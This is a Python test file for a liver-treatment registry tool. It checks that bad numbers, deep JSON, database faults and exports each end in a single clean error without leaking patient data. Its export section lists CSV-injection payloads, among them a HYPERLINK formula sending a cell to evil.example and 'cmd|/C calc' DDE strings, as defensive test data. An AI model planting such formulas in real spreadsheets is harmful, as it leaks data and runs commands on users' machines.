"""Issue 10, registry part: faults and hostile input end in one line, nothing leaks.

Real SQLite and PostgreSQL; real subprocesses where stderr matters.
"""

from __future__ import annotations

import math
import os
import subprocess
import sys
import threading

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError

from cli_helpers import one_line_error
from hepanav.registry import importer
from hepanav.registry.exporter import export_csv
from hepanav.registry.importer import import_file
from registry_helpers import (  # noqa: F401
    count_rows,
    db_url,
    outcome_rows,
    postgres_server,
    registry,
    sqlite_registry,
    stored,
    write_csv,
)


def _hepanav(*args, env=None, cwd=None):
    """Run the real CLI in a subprocess: ``(code, stdout, stderr)``."""
    full_env = {**os.environ, **(env or {})}
    done = subprocess.run(
        [sys.executable, "-m", "hepanav", *map(str, args)],
        capture_output=True,
        text=True,
        env=full_env,
        cwd=cwd,
        timeout=300,
    )
    return done.returncode, done.stdout, done.stderr


# ----------------------------------------------------------------- numbers


def _ablation(engine, tmp_path):
    rows = [
        {
            "patient_id": "P1",
            "lesion_id": "L1",
            "procedure_id": "A1",
            "procedure_type": "ablation",
            "procedure_date": "2021-05-04",
        }
    ]
    import_file(engine, write_csv(tmp_path / "abl.csv", rows))


@pytest.mark.parametrize("mam", ["NaN", "Infinity", "-Infinity", "1e300", "100.5"])
def test_import_margin_refuses_non_finite_and_out_of_range_mam(cli, sqlite_registry, tmp_path, mam):
    url, engine = sqlite_registry
    _ablation(engine, tmp_path)
    margin = tmp_path / "margin.json"
    margin.write_text(
        f'{{"min_margin_mm": {mam}, "shell_coverage_5mm": 0.9, '
        f'"shell_coverage_6mm": 0.8, "category": "0-5mm"}}'
    )
    code, _, err = cli(
        "registry",
        "import-margin",
        margin,
        "--patient-id",
        "P1",
        "--procedure-id",
        "A1",
        "--lesion-id",
        "L1",
        "--db",
        url,
    )
    one_line_error(code, err, str(margin))
    assert stored(engine, "lesion_treatments", "mam_mm") == [None]


def test_import_margin_refuses_deep_json(cli, sqlite_registry, tmp_path):
    url, _ = sqlite_registry
    margin = tmp_path / "margin.json"
    margin.write_text("[" * 5000 + "]" * 5000)
    code, _, err = cli(
        "registry",
        "import-margin",
        margin,
        "--patient-id",
        "P1",
        "--procedure-id",
        "A1",
        "--lesion-id",
        "L1",
        "--db",
        url,
    )
    one_line_error(code, err, "nested more than 32 levels deep")


@pytest.mark.parametrize("value", [math.inf, -math.inf, 1e300, math.nan])
def test_database_checks_refuse_non_finite_and_out_of_range_numbers(registry, tmp_path, value):
    """Second line of defence, on both backends: a value that bypasses the Python
    checks cannot be stored (SQLite turns NaN into NULL; PostgreSQL's CHECK refuses it)."""
    _, engine = registry
    _ablation(engine, tmp_path)
    update = text("UPDATE lesion_treatments SET mam_mm = :v WHERE patient_id = 'P1'")
    try:
        with engine.begin() as conn:
            conn.execute(update, {"v": value})
    except IntegrityError:
        pass
    for v in stored(engine, "lesion_treatments", "mam_mm"):
        assert v is None or (math.isfinite(v) and -100 <= v <= 100)
    with pytest.raises(IntegrityError), engine.begin() as conn:
        conn.execute(text("UPDATE patients SET year_of_birth = 1e9"))
    with pytest.raises(IntegrityError), engine.begin() as conn:
        conn.execute(text("UPDATE lesions SET size_mm = -1"))


def test_migration_0002_up_and_down(db_url):
    from hepanav.registry import db

    engine = db.make_engine(db_url)
    db.upgrade(engine, "0001")
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO patients (patient_id, sex) VALUES ('P1', 'F')"))
        conn.execute(
            text("INSERT INTO lesions (patient_id, lesion_id, size_mm) VALUES ('P1', 'L1', 1e300)")
        )
        conn.execute(
            text(
                "INSERT INTO import_batches (kind, source, sha256, n_rows, imported_at) "
                "VALUES ('outcomes', 'Smith_John.csv', :h, 1, CURRENT_TIMESTAMP)"
            ),
            {"h": "ab" * 32},
        )
    db.upgrade(engine, "0002")
    assert stored(engine, "patients", "sex") == ["F"]
    assert stored(engine, "lesions", "size_mm") == [None]  # unstorable value cleared
    with engine.connect() as conn:
        assert (
            conn.execute(text("SELECT source FROM import_batches")).scalar() == "sha256:" + "ab" * 8
        )
    with pytest.raises(IntegrityError), engine.begin() as conn:  # earlier checks survive
        conn.execute(text("UPDATE patients SET sex = 'Q'"))
    db.downgrade(engine, "0001")
    assert stored(engine, "patients", "sex") == ["F"]  # no row lost in either direction
    with engine.begin() as conn:  # the range check is gone again
        conn.execute(text("UPDATE lesions SET size_mm = 1e300"))
    db.upgrade(engine)
    engine.dispose()


# ----------------------------------------------------------- export injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tsneaky",
    "\rsneaky",
]


def test_csv_and_xlsx_exports_neutralise_formulas(registry, tmp_path):
    """OWASP CSV injection: a cell starting with = + - @ tab CR is prefixed with ' in CSV
    and written as a string (not a formula) in XLSX; exports still re-import."""
    _, engine = registry
    import_file(engine, write_csv(tmp_path / "o.csv", outcome_rows(1, 1)))
    with engine.begin() as conn:
        for value in HOSTILE:
            conn.execute(
                text(
                    "INSERT INTO complications (patient_id, procedure_id, grading_system, grade, "
                    "description) VALUES ('P00000', 'S1', 'cirse', '1', :d)"
                ),
                {"d": value},
            )
    out = export_csv(engine, "complications", tmp_path / "c.csv")
    cells = pd.read_csv(out, dtype=str, keep_default_na=False)["description"].tolist()
    assert cells == ["'" + v for v in HOSTILE]
    raw = out.read_text()
    for v in HOSTILE:
        assert f",{v}" not in raw and f',"{v}' not in raw
    xlsx = export_csv(engine, "complications", tmp_path / "c.xlsx")
    sheet = openpyxl.load_workbook(xlsx).active
    column = [c.value for c in sheet["E"][1:]]
    # XML normalises a CR to LF; what matters is that every cell is a string.
    assert column == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in sheet["E"][1:])
    # The CSV round-trips: the importer removes the quote again.
    rows, _ = importer.validate_rows("complications", importer.read_table(out).records)
    assert [r.description for r in rows][:4] == HOSTILE[:4]


# ------------------------------------------------------------- database faults


def test_a_held_sqlite_lock_is_one_line_naming_the_database(sqlite_registry, tmp_path):
    url, engine = sqlite_registry
    csv = write_csv(tmp_path / "o.csv", outcome_rows(20, 2))
    import sqlite3

    holder = sqlite3.connect(url.removeprefix("sqlite:///"), isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another process holds the write lock
    try:
        code, out, err = _hepanav(
            "registry",
            "import",
            csv,
            "--db",
            url,
            env={"HEPANAV_SQLITE_BUSY_TIMEOUT_MS": "300"},
        )
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    line = one_line_error(code, err, "--db: sqlite database registry.sqlite", "locked")
    assert "0.3 s" in line
    assert "P000" not in err + out  # no row data
    assert count_rows(engine, "patients") == 0


def test_postgres_connection_refused_is_one_line(tmp_path):
    code, out, err = _hepanav(
        "registry", "import", tmp_path / "x.csv", "--db", "postgresql://postgres@127.0.0.1:1/none"
    )
    one_line_error(code, err)


def test_a_refused_postgres_import_prints_one_line(postgres_server, db_url, tmp_path):
    """psycopg's "pipeline aborted" warning line no longer follows the error."""
    if not db_url.startswith("postgresql"):
        pytest.skip("PostgreSQL only")
    code, _, err = _hepanav("registry", "init", "--db", db_url)
    assert code == 0, err
    csv = write_csv(tmp_path / "o.csv", outcome_rows(300, 2))
    assert _hepanav("registry", "import", csv, "--db", db_url)[0] == 0
    # The row-and-key pre-check would refuse this file before writing; switch it off
    # so that the conflict happens inside psycopg's pipelined executemany.
    script = (
        "import sys; import hepanav.registry.importer as i; i._already_there = lambda *a: []; "
        "from hepanav.cli import main; sys.argv = ['hepanav'] + sys.argv[1:]; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, "registry", "import", str(csv), "--db", db_url],
        capture_output=True,
        text=True,
        timeout=300,
    )
    code, err = done.returncode, done.stderr
    one_line_error(code, err, "nothing imported: conflicts with the registry")
    assert "pipeline" not in err.lower() and "P000" not in err
    # With the pre-check: the same file is refused naming row and key.
    code, _, err = _hepanav("registry", "import", csv, "--db", db_url)
    one_line_error(code, err, "row 2 lesion_id: patient P00000 procedure S1 lesion L1")


def test_concurrent_postgres_imports_with_opposite_orders_always_complete(
    postgres_server,
    db_url,
    tmp_path,
    monkeypatch,
):
    """Two importers, 200 shared patients in opposite row order, 10 repetitions: both
    complete every time (rows are inserted in key order, so locks are taken in the
    same order; a deadlock would be retried)."""
    if not db_url.startswith("postgresql"):
        pytest.skip("PostgreSQL only")
    from hepanav.registry import db

    db.upgrade(db.make_engine(db_url))
    engine = db.open_registry(db_url)
    monkeypatch.setattr(importer, "CHUNK_ROWS", 25)  # many small statements interleave
    original = importer._execute_chunk
    attempts = []

    def slow(conn, statement, chunk):
        attempts.append(1)
        original(conn, statement, chunk)
        threading.Event().wait(0.002)

    monkeypatch.setattr(importer, "_execute_chunk", slow)
    patients = 200
    for rep in range(10):
        forward = outcome_rows(patients, 1, procedure=f"A{rep}")
        backward = list(reversed(outcome_rows(patients, 1, procedure=f"B{rep}")))
        files = [
            write_csv(tmp_path / f"a{rep}.csv", forward),
            write_csv(tmp_path / f"b{rep}.csv", backward),
        ]
        barrier = threading.Barrier(2)
        results: list = [None, None]

        def run(i, barrier=barrier, results=results, files=files):
            barrier.wait()
            try:
                results[i] = import_file(engine, files[i]).rows
            except Exception as exc:  # recorded and asserted below
                results[i] = exc

        threads = [threading.Thread(target=run, args=(i,)) for i in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=120)
        assert results == [patients, patients], (rep, results)
    assert count_rows(engine, "patients") == patients
    assert count_rows(engine, "lesion_treatments") == 2 * 10 * patients
    engine.dispose()


def test_the_registry_stores_the_file_hash_not_its_name(sqlite_registry, tmp_path):
    import hashlib

    _, engine = sqlite_registry
    csv = write_csv(tmp_path / "Smith_John_liver_2021.csv", outcome_rows(2, 1))
    summary = import_file(engine, csv)
    digest = hashlib.sha256(csv.read_bytes()).hexdigest()
    with engine.connect() as conn:
        source, sha = conn.execute(text("SELECT source, sha256 FROM import_batches")).one()
    assert sha == digest == summary.sha256 and source == f"sha256:{digest[:16]}"
    dump = "\n".join(
        str(r)
        for t in ("import_batches", "patients")
        for r in engine.connect().execute(text(f"SELECT * FROM {t}"))
    )
    assert "Smith" not in dump and "John" not in dump
